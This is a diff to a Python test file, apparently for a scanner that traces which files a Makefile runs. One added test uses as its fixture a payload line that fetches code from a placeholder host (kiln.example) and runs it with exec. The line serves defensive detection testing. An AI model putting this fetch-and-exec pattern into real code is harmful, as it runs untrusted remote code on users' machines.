@@ -79,3 +79,10 @@ def test_a_file_that_is_only_checked_or_that_somebody_starts_is_not_called(calle
 def test_many_files_are_looked_at_in_time():
     files = [added(f"docs/page{number}.md", "pots\n" * 20) for number in range(500)]
     assert shown(added("Makefile", "docs/page\n" * 100_000), *files)
+
+
+def test_the_excerpt_leads_to_the_line_that_does_it():
+    payload = "import urllib.request as u\nexec(u.urlopen('https://kiln.example').read())\n"
+    contents = read_contents([added("Makefile", "fire:\n\tpython tests/fire.py\n"), added("tests/fire.py", payload)])
+    excerpts = {sight.excerpt for sight in contents.sights if sight.observation.path == "Makefile"}
+    assert "python tests/fire.py → tests/fire.py:2" in excerpts
